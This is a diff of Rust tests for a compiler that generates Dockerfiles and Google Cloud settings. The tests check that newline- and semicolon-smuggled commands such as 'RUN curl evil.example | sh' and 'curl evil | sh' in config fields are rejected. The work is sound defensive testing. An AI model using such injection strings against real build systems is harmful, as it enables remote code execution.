@@ -400,3 +400,43 @@ fn no_secret_value_reaches_an_artifact_and_dev_values_stay_in_development() {
     assert_eq!(dev_only_in, vec!["docker-compose.yml"], "a development value left development");
     assert_eq!(test_only_in, vec!["docker-compose.test.yml"], "a test value left the test file");
 }
+
+// ---------------------------------------------------------------------------------------------
+// Values spliced into text artifacts stay plain.
+
+#[test]
+fn a_line_break_cannot_start_a_dockerfile_instruction() {
+    let source = "service api {\n  build : python { version = \"3.12\\nRUN curl evil.example | sh\"  requirements = \"r.txt\\nRUN id\"  runtime_packages = [\"libpq5=15.*\\nRUN whoami\"]  copy = [\"app/\\nRUN id\"] }\n  port = 8000\n}\n";
+    let compiled = compile_source("", source);
+    let messages: Vec<String> = compiled.diagnostics.iter().map(|d| format!("{} {}", d.code.code, d.message)).collect();
+    for field in ["version", "requirements", "runtime_packages", "copy"] {
+        assert!(
+            messages.iter().any(|m| m.starts_with("S0112") && m.contains(&format!("`{field}`"))),
+            "{field}: {messages:?}"
+        );
+    }
+    assert!(compiled.model.is_none());
+}
+
+#[test]
+fn google_cloud_settings_have_the_form_google_cloud_gives_them() {
+    for (field, value) in [
+        ("project", "shop prod"),
+        ("project", "Shop-Prod"),
+        ("region", "europe-west1; curl evil | sh"),
+        ("registry", "europe-west1-docker.pkg.dev/shop-prod/app\\nRUN id"),
+        ("registry", "gcr.io/Shop"),
+    ] {
+        let mut settings = vec![("project", "shop-prod"), ("region", "europe-west1"), ("registry", "gcr.io/shop-prod")];
+        for s in &mut settings {
+            if s.0 == field {
+                s.1 = value;
+            }
+        }
+        let gcp: Vec<String> = settings.iter().map(|(k, v)| format!("{k} = \"{v}\"")).collect();
+        let source =
+            format!("project shop {{\n  gcp {{ {} }}\n}}\nservice web {{ image = \"nginx:1.27\" }}\n", gcp.join("  "));
+        let compiled = compile_source("", &source);
+        assert_eq!(codes(&compiled), vec!["S0112"], "{field} = {value:?}\n{}", human(&compiled));
+    }
+}
